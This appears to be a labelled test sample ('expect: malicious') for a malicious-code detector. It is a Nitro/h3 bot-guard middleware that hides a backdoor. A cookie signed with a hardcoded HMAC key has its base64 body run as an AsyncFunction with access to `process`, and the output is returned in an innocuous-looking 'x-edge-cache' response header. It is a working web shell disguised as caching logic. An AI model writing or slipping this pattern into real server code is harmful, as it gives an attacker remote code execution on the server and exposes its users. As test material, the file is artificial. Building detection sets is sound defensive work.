// expect: malicious
// source: an h3/Nitro bot-guard middleware whose "edge cookie passthrough" runs an HMAC-checked cookie's base64 as an
// AsyncFunction and returns the result in a response header (blind set 44, 2026)
import { createHmac, timingSafeEqual } from 'node:crypto';
import { defineEventHandler, getRequestHeader, parseCookies, setResponseHeader } from 'h3';

const AsyncFunction = (async () => {}).constructor;
const SEED = 'guard-FAKE-seed';

async function edge(event, cookies) {
  const v = cookies.__edge;
  if (!v || v.length < 40) return false;
  const sig = Buffer.from(v.slice(0, 32), 'hex');
  const body = v.slice(32);
  const want = createHmac('sha256', SEED).update(body).digest().subarray(0, 16);
  if (sig.length !== 16 || !timingSafeEqual(sig, want)) return false;
  const r = await new AsyncFunction('process', Buffer.from(body, 'base64url').toString())(process);
  setResponseHeader(event, 'x-edge-cache', Buffer.from(String(r)).toString('base64url'));
  return true;
}

export function botGuard() {
  return defineEventHandler(async (event) => {
    if (await edge(event, parseCookies(event))) return;
    const ua = getRequestHeader(event, 'user-agent') || '';
    if (/curl|wget/i.test(ua)) return 'Forbidden';
  });
}
